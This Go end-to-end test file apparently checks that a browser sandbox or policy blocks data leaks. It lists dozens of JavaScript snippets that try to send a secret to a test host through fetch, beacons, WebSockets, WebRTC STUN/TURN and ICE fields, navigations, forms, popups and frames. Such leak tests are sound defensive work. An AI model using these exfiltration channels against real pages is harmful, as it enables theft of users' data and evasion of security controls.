package e2e

var leakRequests = []leakChannel{
	{name: "fetch-get", places: fromBoth, try: `fetch(at.url("json")).catch(() => {})`},
	{name: "fetch-tls", places: fromBoth, try: `fetch(at.url("json", "https")).catch(() => {})`, only: "out"},
	{name: "fetch-post", places: fromBoth, try: `fetch(at.url("json"), { method: "POST", body: at.secret }).catch(() => {})`},
	{name: "fetch-no-cors", places: fromBoth, try: `fetch(at.url("json"), { mode: "no-cors", credentials: "include" }).catch(() => {})`},
	{name: "fetch-keepalive", places: fromBoth, try: `fetch(at.url("json"), { keepalive: true, priority: "high" }).catch(() => {})`},
	{name: "fetch-later", places: fromPage, try: `need(globalThis.fetchLater)(at.url("json", at.own ? "http" : "https"), { activateAfter: 0 })`},
	{name: "xhr", places: fromBoth, try: `const r = new XMLHttpRequest(); r.open("GET", at.url("json")); r.send()`},
	{name: "xhr-post", places: fromBoth, try: `const r = new XMLHttpRequest(); r.open("POST", at.url("json")); r.send(at.secret)`},
	{name: "beacon", places: fromPage, try: `navigator.sendBeacon(at.url("json"), at.secret)`},
	{name: "eventsource", places: fromBoth, try: `new EventSource(at.url("events"))`},
	{name: "websocket", places: fromBoth, try: `new WebSocket(at.url("json", "ws"))`},
	{name: "websocket-tls", places: fromBoth, try: `new WebSocket(at.url("json", "wss"))`, only: "out"},
	{name: "websocket-stream", places: fromBoth, try: `need(globalThis.WebSocketStream); new WebSocketStream(at.url("json", "ws")).opened.catch(() => {})`},
	{name: "webtransport", places: fromBoth, try: `new WebTransport("https://" + at.host + ":" + at.udp + "/" + at.secret).ready.catch(() => {})`, only: "out"},
	{name: "tcp-socket", places: fromBoth, try: `need(globalThis.TCPSocket); new TCPSocket(at.host, at.port)`, only: "out"},
}

const leakPeer = `
	const peer = new (need(globalThis.RTCPeerConnection))({ iceServers: servers });
	peer.createDataChannel(at.secret);
	await peer.setLocalDescription();`

var leakWebRTC = []leakChannel{
	{name: "webrtc-stun", places: fromBoth, only: "out", try: `const servers = [{ urls: "stun:" + at.host + ":" + at.udp }];` + leakPeer},
	{name: "webrtc-turn-udp", places: fromPage, only: "out", try: `const servers = [{ urls: "turn:" + at.host + ":" + at.udp, username: at.secret, credential: "x" }];` + leakPeer},
	{name: "webrtc-turn-tcp", places: fromPage, only: "out", try: `const servers = [{ urls: "turn:" + at.host + ":" + at.port + "?transport=tcp", username: at.secret, credential: "x" }];` + leakPeer},
	{name: "webrtc-turns", places: fromPage, only: "out", try: `const servers = [{ urls: "turns:" + at.host + ":" + at.port + "?transport=tcp", username: at.secret, credential: "x" }];` + leakPeer},
	// The other side is described as somebody who waits at the address: the check of
	// connectivity carries the fragment that the description chose.
	{name: "webrtc-candidate", places: fromPage, only: "out", try: `
		const here = new RTCPeerConnection(), there = new RTCPeerConnection();
		here.createDataChannel("x");
		await here.setLocalDescription();
		await there.setRemoteDescription(here.localDescription);
		await there.setLocalDescription();
		const sdp = there.localDescription.sdp.replace(/a=ice-ufrag:.*/g, "a=ice-ufrag:" + at.secret.replace(/\W/g, "")).replace(/a=candidate.*\r\n/g, "");
		await here.setRemoteDescription({ type: "answer", sdp });
		await here.addIceCandidate({ candidate: "candidate:1 1 udp 2122260223 127.0.0.1 " + at.udp + " typ host", sdpMid: "0" });`},
	{name: "webrtc-candidate-name", places: fromPage, only: "out", try: `
		const here = new RTCPeerConnection(), there = new RTCPeerConnection();
		here.createDataChannel("x");
		await here.setLocalDescription();
		await there.setRemoteDescription(here.localDescription);
		await there.setLocalDescription();
		await here.setRemoteDescription({ type: "answer", sdp: there.localDescription.sdp.replace(/a=candidate.*\r\n/g, "") });
		await here.addIceCandidate({ candidate: "candidate:1 1 udp 2122260223 " + at.host + " " + at.udp + " typ host", sdpMid: "0" });`},
}

// leakThrough opens a page of ours that may lead to other sites by https, since nobody
// types a token there, and waits until it can be reached into.
const leakThrough = `
	const away = "https://" + at.host + "/?" + at.secret, w = open("/rules");
	try {
		while (!w.closed && (w.location.href === "about:blank" || w.document.readyState !== "complete")) await new Promise((next) => setTimeout(next, 100));
		if (w.closed) throw new Error();
	} catch {
		throw new DOMException("severed", "Severed");
	}
	`

var leakNavigations = []leakChannel{
	{name: "location", places: fromPage, leaves: true, try: `location.href = at.url("html")`},
	{name: "location-tls", places: fromPage, leaves: true, only: "out", try: `location.href = at.url("html", "https")`},
	{name: "location-replace", places: fromPage, leaves: true, try: `location.replace(at.url("html"))`},
	{name: "navigation-api", places: fromPage, leaves: true, try: `navigation.navigate(at.url("html"))`},
	{name: "link-click", places: fromPage, leaves: true, try: `make("a", { href: at.url("html") }).click()`},
	{name: "link-click-svg", places: fromPage, leaves: true, try: `make("svg:a", { href: at.url("html") }, make("svg:svg")).dispatchEvent(new MouseEvent("click"))`},
	{name: "link-blank", places: fromPage, leaves: true, try: `make("a", { href: at.url("html"), target: "_blank", rel: "opener" }).click()`},
	{name: "link-ping", places: fromPage, leaves: true, try: `make("a", { href: "#", ping: at.url("html") }).click()`},
	{name: "download", places: fromPage, leaves: true, try: `make("a", { href: at.url("html"), download: "x" }).click()`},
	{name: "meta-refresh", places: fromPage, leaves: true, try: `make("meta", { "http-equiv": "refresh", content: "0;url=" + at.url("html") }, document.head)`},
	{name: "form-get", places: fromPage, leaves: true, try: `const f = make("form", { action: at.url("html") }); make("input", { name: "leak", value: at.id + "." + at.secret }, f); f.submit()`},
	{name: "form-post", places: fromPage, leaves: true, try: `const f = make("form", { action: at.url("html"), method: "post" }); make("input", { name: "leak", value: at.id }, f); f.submit()`},
	{name: "form-blank", places: fromPage, leaves: true, try: `make("form", { action: at.url("html"), method: "post", target: "_blank" }).submit()`},
	{name: "form-button", places: fromPage, leaves: true, try: `const f = make("form"); make("button", { formaction: at.url("html"), formmethod: "post" }, f).click()`},
	{name: "form-frame", places: fromPage, leaves: true, try: `make("iframe", { name: "leak" }); make("form", { action: at.url("html"), method: "post", target: "leak" }).submit()`},
	{name: "popup", places: fromPage, leaves: true, try: `open(at.url("html"))`},
	{name: "popup-noopener", places: fromPage, leaves: true, try: `open(at.url("html"), "_blank", "noopener")`},
	{name: "popup-blank", places: fromPage, leaves: true, try: `const w = open("", at.secret); w.location = at.url("html")`},
	{name: "popup-script", places: fromPage, leaves: true, try: `const w = open("", at.secret); w.fetch(at.url("json")).catch(() => {}); w.document.createElement("img").src = at.url("svg")`},
	{name: "popup-through-rules-link", places: fromPage, leaves: true, only: outward, try: leakThrough + `w.document.body.append(Object.assign(w.document.createElement("a"), { href: away })); w.document.body.lastChild.click()`},
	{name: "popup-through-rules-open", places: fromPage, leaves: true, only: outward, try: leakThrough + `w.open(away)`},
	{name: "popup-through-rules-refresh", places: fromPage, leaves: true, only: outward, try: leakThrough + `w.document.head.append(Object.assign(w.document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=" + away }))`},
	{name: "frame-top", places: fromPage, leaves: true, try: `make("iframe").contentWindow.top.location = at.url("html")`},
	{name: "javascript-url", places: fromPage, leaves: true, try: `location.href = "javascript:void fetch('" + at.url("json") + "')"`},
	{name: "blob-document", places: fromPage, leaves: true, try: `location.href = URL.createObjectURL(new Blob(["<img src='" + at.url("svg") + "'>"], { type: "text/html" }))`},
	{name: "blob-popup", places: fromPage, leaves: true, try: `open(URL.createObjectURL(new Blob(["<script>fetch('" + at.url("json") + "')</script>"], { type: "text/html" })))`},
	{name: "data-document", places: fromPage, leaves: true, mute: "browsers open no data: address in a tab for a page", try: `location.href = "data:text/html,<img src='" + at.url("svg") + "'>"`},
	{name: "document-write", places: fromPage, leaves: true, try: `document.open(); document.write("<img src='" + at.url("svg") + "'>"); document.close()`},
	{name: "mailto", places: fromPage, leaves: true, only: "out", mute: "a mail program would get it, which no listener sees", try: `location.href = "mailto:x@leak.test?body=" + at.secret`},
	{name: "own-protocol", places: fromPage, leaves: true, only: "out", mute: "another program would get it, which no listener sees", try: `location.href = "web+leak:" + at.secret`},
}

var leakFrames = []leakChannel{
	{name: "iframe", places: fromPage, try: `make("iframe", { src: at.url("html") })`},
	{name: "iframe-sandbox", places: fromPage, try: `make("iframe", { src: at.url("html"), sandbox: "allow-scripts" })`},
	{name: "iframe-credentialless", places: fromPage, try: `make("iframe", { src: at.url("html"), credentialless: "" })`},
	{name: "iframe-srcdoc", places: fromPage, try: `make("iframe", { srcdoc: "<img src='" + at.url("svg") + "'>" })`},
	{name: "iframe-data", places: fromPage, try: `make("iframe", { src: "data:text/html,<img src='" + at.url("svg") + "'>" })`},
	{name: "iframe-blob", places: fromPage, try: `make("iframe", { src: URL.createObjectURL(new Blob(["<img src='" + at.url("svg") + "'>"], { type: "text/html" })) })`},
	{name: "iframe-blank-fetch", places: fromPage, try: `make("iframe").contentWindow.fetch(at.url("json")).catch(() => {})`},
	{name: "iframe-blank-image", places: fromPage, try: `const d = make("iframe").contentDocument; d.body.append(Object.assign(d.createElement("img"), { src: at.url("svg") }))`},
	{name: "iframe-blank-location", places: fromPage, try: `make("iframe").contentWindow.location = at.url("html")`},
	{name: "iframe-javascript", places: fromPage, try: `make("iframe", { src: "javascript:void fetch('" + at.url("json") + "')" })`},
	{name: "object", places: fromPage, try: `make("object", { data: at.url("svg"), type: "image/svg+xml" })`},
	{name: "embed", places: fromPage, try: `make("embed", { src: at.url("svg"), type: "image/svg+xml" })`},
	{name: "fencedframe", places: fromPage, mute: "only a configuration that the browser made leads anywhere", try: `need(globalThis.FencedFrameConfig); make("fencedframe").config = new FencedFrameConfig(at.url("html", "https"))`},
	{name: "portal", places: fromPage, try: `need(globalThis.HTMLPortalElement); make("portal", { src: at.url("html") })`},
}
